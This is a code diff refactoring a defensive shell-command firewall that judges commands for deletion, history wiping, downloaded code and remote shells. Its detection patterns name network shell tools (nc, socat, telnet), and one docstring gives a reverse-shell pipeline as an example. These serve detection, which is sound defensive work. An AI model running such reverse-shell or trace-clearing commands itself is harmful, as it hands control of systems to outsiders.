@@ -2,16 +2,16 @@
 
 from __future__ import annotations
 
-import fnmatch
 import itertools
 import re
 
-from firewall.engine.shell import accounts, code, credentials, databases, edits, files, git, managers, network, paths, system, unwrap, windows
-from firewall.engine.shell.call import Call, Row
+from firewall.engine.shell import code, containers, databases, files, network, paths, programs, unwrap, windows, wrappers
+from firewall.engine.shell.call import Call
 from firewall.engine.shell.evaluate import says
-from firewall.engine.shell.parse import KEYWORDS, UNKNOWN, parse
+from firewall.engine.shell.parse import KEYWORDS, parse
+from firewall.engine.shell.programs import program_name
 from firewall.engine.shell.scope import MAX_DEPTH, Scope
-from firewall.engine.shell.types import Category, Command, Finding, Judgement, Script, TooDeepError, word_set
+from firewall.engine.shell.types import UNKNOWN, Category, Command, Finding, Judgement, Script, TooDeepError
 from firewall.engine.shell.written import Written
 
 MAX_CHARS = 65_536
@@ -23,47 +23,11 @@ MAX_PIPED = 64
 MAX_JUDGED = 4_000
 """Commands judged in one text, those inside others included."""
 
-#: A variable without a value, among the letters of a program's name.
-_UNSET = re.compile(r"\$(?:\w+|[@*#?!-])")
 _PLAIN = re.compile(r"[\w./:=@%+, -]*")
-_UNINSTALLER = re.compile(
-    r"(?:.*[-_.])?(?:uninstall(?:er|-all)?|(?<=.)killall|nuke|wipe|wiper|teardown|tear-down|destroy|selfdestruct|self-destruct)(?:\.(?:sh|bash|py|pl|run|ps1|exe|bat))?"
-)
-_EXTENSION = re.compile(r"\.(?:exe|cmd|bat|com)$")
 
-#: They show, compare or count what they are given; nothing among their arguments is run or removed.
-_DATA = word_set(
-    """
-    echo printf print : true false test [ [[ ]] cat bat less more head tail grep egrep fgrep rg ag ack zgrep ls dir ll tree stat file wc sort uniq cut
-    paste join comm diff cmp cd pushd popd pwd mkdir touch basename dirname readlink realpath which whereis type man info whatis apropos help date cal
-    uptime who w whoami id groups users hostname uname ps top htop df du free lsof netstat ss ping dig nslookup host traceroute ifconfig jobs fg bg wait
-    sleep seq yes expr bc dc factor md5sum sha1sum sha256sum cksum tr fold fmt column nl tac rev split od xxd hexdump strings export local declare
-    typeset readonly set shopt return exit break continue shift read mapfile getopts let alias unalias printenv locale tput clear stty tty say figlet
-    cowsay jq yq gzip gunzip bzip2 bunzip2 xz zcat zip unzip tar cpio ln for case select in code subl open xdg-open write-host write-output write-error
-    get-content get-childitem get-item get-process select-string out-file make cmake ninja cargo go javac rustc gcc g++ clang pytest jest vitest mocha
-    tsc eslint mail mailx mutt sendmail logger notify-send wall write simctl prettier ruff black mypy flake8 isort rspec phpunit mvn gradle gradlew pip
-    pip3 npm yarn pnpm composer gem poetry pipenv tldr coverage tox nox pre-commit hugo mkdocs sphinx-build gatsby ng nx turbo lerna storybook expo
-    react-native dart cabal stack dune zig ctest scons ant bazel buck findstr defaults meson conda mamba pipx uv hatch pdm rye where
-    pygmentize highlight sqlformat sqlfluff inotifywait
-    """
-)
 
-_ROWS: dict[str, tuple[Row, ...]] = {}
-for _each in (files.TABLE, git.TABLE, managers.TABLE, system.TABLE, system.COMPOSE, system.PACKAGES, databases.TABLE, accounts.TABLE, accounts.SECRETS):
-    for _name, _rows in _each.items():
-        _ROWS[_name] = _ROWS.get(_name, ()) + _rows
-_ROWS.pop("git")
-
-_RULES: dict[str, tuple[files.Rule, ...]] = {"git": (git.rule,)}
-for _rules in (files.RULES, system.RULES, windows.RULES, code.RULES, edits.RULES, databases.RULES, network.RULES, accounts.RULES, managers.RULES):
-    for _name, _rule in _rules.items():
-        _RULES[_name] = (*_RULES.get(_name, ()), _rule)
-#: Not judged in a text for Windows read as if it were for a POSIX shell, where its backslashes are lost.
-_WINDOWS_ONLY = frozenset(windows.RULES) - {"rmdir", "move"}
 _EVALUATES = frozenset({"eval", "iex", "invoke-expression"})
 _MAKES_WORDS = frozenset({"xargs", "parallel", "rush"})
-#: Programs looked for behind a glob: ``/bin/r?``.
-_GLOBBED = ("rm", "dd", "sh", "bash", "shred", "mkfs", "chmod", "chown", "curl", "wget", "reboot", "shutdown")
 
 
 def judge(command: str) -> Judgement:
@@ -128,9 +92,9 @@ class _Judge:
     def variable(self, name: str, value: str, depth: int) -> Finding | None:
         if (name == "HISTFILE" and value in ("", "/dev/null")) or (name in ("HISTSIZE", "HISTFILESIZE", "SAVEHIST") and value == "0"):
             return Finding(Category.TRACES, name, "stops the history of commands")
-        if name in unwrap.LOADED_VARIABLES and any(paths.temporary(path) or path.startswith("./") for path in value.split(":")):
+        if name in wrappers.LOADED_VARIABLES and any(paths.temporary(path) or path.startswith("./") for path in value.split(":")):
             return Finding(Category.PERMISSIONS, name, "makes programs load what anybody may have put there")
-        return self.text(value, depth + 1) if name in unwrap.RUN_VARIABLES and value else None
+        return self.text(value, depth + 1) if name in wrappers.RUN_VARIABLES and value else None
 
     def script(self, script: Script, scope: Scope, depth: int) -> Finding | None:
         if depth > MAX_DEPTH:
@@ -173,7 +137,7 @@ class _Judge:
             return None
         if (each := windows.each(words, command)) is not None:
             return self.words(each, command, before, depth + 1)
-        name, words = _program(words[0]), words if not words[0].startswith("/etc/init.d/") else ["service", _program(words[0]), *words[1:]]
+        name, words = program_name(words[0]), words if not words[0].startswith("/etc/init.d/") else ["service", program_name(words[0]), *words[1:]]
         call = Call(
             name if words[0] != "service" else "service",
             words[1:],
@@ -188,23 +152,23 @@ class _Judge:
         self.downloaded.update(network.saved_as(command))
         if call.name in (".", "source") and command.processes and (found := _downloaded(command, call.name)):
             return found
-        if call.name in unwrap.SHELLS or call.name in (".", "source"):
+        if call.name in wrappers.SHELLS or call.name in (".", "source"):
             for text in (text for process in command.processes for text in says(process)):
                 if found := self.text(text, depth + 1):
                     return found
         inside = unwrap.unwrap(call)
         if found := self.wrapped(call, inside, command, depth):
             return found
-        if found := windows.method(call, command) or system.machine_reached(call) or network.run_from_elsewhere(call):
+        if found := windows.method(call, command) or containers.machine_reached(call) or network.run_from_elsewhere(call):
             return found
         # What was said by the words it runs is not said by it.
-        return None if inside and inside.words else self.program(call)
+        return None if inside and inside.words else programs.ask(call, is_windows=self.is_windows)
 
     def fetched_before(self, call: Call, word: str) -> Finding | None:
         """Running a file that an earlier command downloaded."""
         runs = (
             call.operands[:1]
-            if call.name in unwrap.SHELLS or call.name in (".", "source") or code.interpreter_name(call.name) in code.INTERPRETERS
+            if call.name in wrappers.SHELLS or call.name in (".", "source") or code.interpreter_name(call.name) in code.INTERPRETERS
             else [word]
             if "/" in word
             else []
@@ -242,8 +206,8 @@ class _Judge:
         """``xargs``: the words come after, or where the mark stands; those not known are some files of a search."""
         mark = call.value("-I", "--replace") or "{}"
         items = call.fed.split() if call.fed is not None else []
-        search = next((before.words for before in call.before if before.words and _program(before.words[0]) in ("find", "fd", "gfind")), None)
-        if not items and _program(words[0]) in ("rm", "unlink", "shred", "srm"):
+        search = next((before.words for before in call.before if before.words and program_name(before.words[0]) in ("find", "fd", "gfind")), None)
+        if not items and program_name(words[0]) in ("rm", "unlink", "shred", "srm"):
             if search and files.harmless_search(search[1:], [word for word in search[1:2] if not word.startswith("-")]):
                 return None
             return Finding(Category.DELETION, f"{call.name} {words[0]}", "deletes every file it is fed")
@@ -251,60 +215,12 @@ class _Judge:
             return self.words([word.replace(mark, " ".join(items) or "$fed") for word in words], Command(), [], depth + 1)
         return self.words([*words, *(items or ["$fed"])], Command(), [], depth + 1)
 
-    def program(self, call: Call) -> Finding | None:
-        """Ask the rules: the one by name, the rows by name, and the grammar of programs that manage something."""
-        name = call.name
-        posix = self.is_windows or name not in _WINDOWS_ONLY
-        for rule in (_RULES.get(name) or _RULES.get(code.interpreter_name(name), ())) if posix else ():
-            if found := rule(call):
-                return found
-        for row in _ROWS.get(name, ()):
-            if found := row.finding(call):
-                return found
-        if "-" in name and self.is_windows and (found := windows.cmdlet(call)):
-            return found
-        if found := credentials.credentials(call) or edits.output(call) or _uninstaller(call):
-            return found
-        if runs := _program_run(call):
-            return self.program(Call(_program(runs[0]), runs[1:], call.before, call.fed, call.again, call.words_again))
-        if name in _DATA or (name in _RULES and name not in managers.MANAGERS):
-            return None
-        return managers.verb(call) or accounts.granted(call) or databases.sends_sql(call) or databases.objects(call)
-
-
-def _program_run(call: Call) -> list[str]:
-    """The program that an interpreter is given as a file or a module: ``java -jar x.jar``, ``python manage.py``, ``python -m pytest``."""
-    name, args = code.interpreter_name(call.name), call.args
-    if name == "java" and "-jar" in args[:-1]:
-        return args[args.index("-jar") + 1 :]
-    if name == "python" and "-m" in args[:-1]:
-        return args[args.index("-m") + 1 :]
-    return args if name in ("python", "php") and args and args[0].endswith((".py", "artisan", "console")) else []
-
-
-def _uninstaller(call: Call) -> Finding | None:
-    """Programs named for what they take away: ``k3s-uninstall.sh``, run by themselves or by a shell."""
-    names = [call.name, *(_program(word) for word in call.operands[:1] if call.name in unwrap.SHELLS)]
-    checks = call.name in unwrap.SHELLS and "-n" in call.flags
-    found = next((name for name in names if _UNINSTALLER.fullmatch(name)), None) if not checks and not managers.is_dry_run(call) else None
-    return Finding(Category.PACKAGES, found, "takes away what is installed, and its data") if found else None
-
-
-def _program(word: str) -> str:
-    """The name a program goes by: no folder, no extension of Windows, no case where a glob or a caret hides it."""
-    name = _EXTENSION.sub("", re.split(r"[/\\]", word)[-1].replace("^", "").lower())
-    if "$" in name and (known := _UNSET.sub("", name)):
-        name = known
-    if ("?" in name or "*" in name or "[" in name) and 2 <= len(name) <= 24 and name not in ("[", "[["):
-        return next((known for known in _GLOBBED if fnmatch.fnmatchcase(known, name)), name)
-    return name
-
 
 def _unseen(call: Call, command: Command, *, reads_input: bool) -> Finding | None:
     """A shell or an interpreter given what is downloaded, or cannot be read here."""
     name = call.name
     interprets = code.interpreter_name(name) in code.INTERPRETERS
-    if not (name in unwrap.SHELLS or interprets or name in _EVALUATES or name in ("at", "batch", "ssh")):
+    if not (name in wrappers.SHELLS or interprets or name in _EVALUATES or name in ("at", "batch", "ssh")):
         return None
     if command.processes and (found := _downloaded(command, name)):
         return found
@@ -327,8 +243,8 @@ def _downloaded(command: Command, name: str) -> Finding | None:
 
 def _shell_on_a_line(pipeline: list[Command]) -> Finding | None:
     """``cat fifo | sh -i | nc host 99 > fifo``."""
-    names = [_program(command.words[0]) for command in pipeline if command.words]
-    shell = next((place for place, name in enumerate(names) if name in unwrap.SHELLS), len(names))
+    names = [program_name(command.words[0]) for command in pipeline if command.words]
+    shell = next((place for place, name in enumerate(names) if name in wrappers.SHELLS), len(names))
     line = next((name for name in names[shell + 1 :] if name in ("nc", "ncat", "netcat", "socat", "telnet", "openssl")), None)
     return Finding(Category.REMOTE_CONTROL, line, "gives a shell to whoever is at the other end") if line else None
 
